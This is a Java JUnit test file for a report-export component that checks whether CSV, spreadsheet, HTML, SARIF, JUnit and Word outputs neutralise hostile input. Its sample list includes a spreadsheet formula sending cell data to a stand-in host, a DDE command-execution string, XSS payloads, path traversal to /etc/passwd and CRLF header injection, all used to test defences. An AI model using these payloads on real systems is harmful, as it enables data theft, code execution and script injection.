package org.gascheck.documents;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.gascheck.documents.exchange.SchemasTest;
import org.gascheck.reports.marks.Marks;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that a submission says breaks out of a document. */
class HostileTextsTest {

    /** More than a cell of a workbook holds. */
    private static final int LONG = 33_000;
    private static final int LONG_ENOUGH_FOR_PROGRAMS = 4_000;
    private static final String FORMULA_BEGINS = "=+-@\t\r＝＋－＠";

    @TempDir
    private Path folder;

    static List<String> hostileTexts() {
        return List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1)",
                "\t=1+1",
                "\r\n=1+1",
                "  =1+1",
                "＝1+1",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "' onmouseover='alert(1)",
                "</title></style><script>alert(2)</script>",
                "javascript:alert(1)",
                "]]></failure><testcase/>",
                "&lt;&#60;&amp;",
                "\u0000\u0001\u001b[31m\u0085\u2028\u202e\ufeff\ufffe\uffff\ud800x",
                "../../../etc/passwd",
                "C:\\Windows\\CON",
                "NUL",
                "/",
                "…..",
                "{{order.found}}{{addressee}}",
                "_x003D_1+1_x000D_",
                "%0d%0aSet-Cookie: a=b",
                "a:b:c",
                new Random(1).ints(LONG, 0x4E00, 0x9FA0)
                        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                        .toString());
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void csvHasNoFormulaAndNoControl(String hostile) throws IOException {
        Path file = write(DocumentFormat.CSV, hostile);
        String text = Files.readString(file);
        assertThat(text).startsWith("\uFEFF");
        try (CsvReader<CsvRecord> csv = CsvReader.builder().ofCsvRecord(text.substring(1))) {
            int width = 0;
            for (CsvRecord record : csv) {
                width = width == 0 ? record.getFieldCount() : width;
                assertThat(record.getFieldCount()).isEqualTo(width);
                record.getFields().forEach(HostileTextsTest::assertHarmless);
            }
        }
    }

    private static void assertHarmless(String cell) {
        String stripped = cell.strip();
        assertThat(stripped.isEmpty() ? 'x' : stripped.charAt(0))
                .satisfies(first -> assertThat(FORMULA_BEGINS).doesNotContain(String.valueOf(first)));
        assertThat(cell.chars().filter(each -> each < ' ' && each != '\n')).isEmpty();
        assertThat(cell).doesNotContain("\u202e", "\uffff", "\ufffe");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aWorkbookHasTextsOnly(String hostile) throws IOException {
        try (InputStream in = Files.newInputStream(write(DocumentFormat.XLSX, hostile));
                XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            int texts = 0;
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            assertHarmless(cell.getStringCellValue());
                            assertThat(cell.getStringCellValue()).hasSizeLessThanOrEqualTo(32_767);
                            texts += cell.getStringCellValue().isEmpty() ? 0 : 1;
                        }
                    }
                }
            }
            assertThat(texts).isGreaterThan(100);
            if (hostile.startsWith("_x003D_")) {
                assertThat(workbook.getSheetAt(1).getRow(1).getCell(1).getStringCellValue()).isEqualTo(hostile);
            }
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aPageHasNoScriptButItsOwn(String hostile) throws IOException {
        String page = Files.readString(write(DocumentFormat.HTML, hostile));
        assertThat(count(page, "<script")).isEqualTo(1);
        assertThat(count(page, "<style")).isEqualTo(1);
        assertThat(page).contains("default-src &#39;none&#39;").doesNotContain("<img", "\u0000", "\u202e");
        Matcher tags = Pattern.compile("<[a-z][^>]*\\son[a-z]+\\s*=").matcher(page);
        assertThat(tags.find()).isFalse();
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void formsForOtherProgramsStayWhole(String text) throws Exception {
        // Nothing is cut at a length there, as in the cells of a workbook.
        String hostile = text.substring(0, Math.min(text.length(), LONG_ENOUGH_FOR_PROGRAMS));
        String sarif = Files.readString(write(DocumentFormat.SARIF, hostile));
        SchemasTest.checkSarif(sarif);
        assertThat(new ObjectMapper().readTree(sarif).at("/runs/0/results")).isNotEmpty();
        String junit = Files.readString(write(DocumentFormat.JUNIT, hostile));
        SchemasTest.checkJunit(junit);
        assertThat(count(junit, "<testsuite ")).isEqualTo(2);
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void noticesStayInTheirFolderAndFillNothingTwice(String hostile) throws IOException {
        Path notices = write(DocumentFormat.DOCX, hostile);
        try (Stream<Path> files = Files.walk(folder)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                assertThat(file.getParent()).isEqualTo(notices);
                assertThat(file.getFileName().toString())
                        .matches("index\\.csv|000001-[\\p{L}\\p{Nd}_]{1,40}\\.(docx|html)");
                if (file.toString().endsWith(".docx")) {
                    try (XWPFDocument document = new XWPFDocument(Files.newInputStream(file))) {
                        String text = document.getTables().get(0).getText();
                        assertThat(text).doesNotContain("{{order.no}}");
                        if (hostile.startsWith("{{")) {
                            assertThat(text).contains("{{order.found}}{{addressee}}");
                        }
                    }
                }
            }
        }
    }

    private Path write(DocumentFormat format, String hostile) throws IOException {
        return HostileResults.saying(hostile).write(format, Marks.NONE, folder, Locale.CHINESE);
    }

    private static int count(String text, String part) {
        return text.split(Pattern.quote(part), -1).length - 1;
    }
}
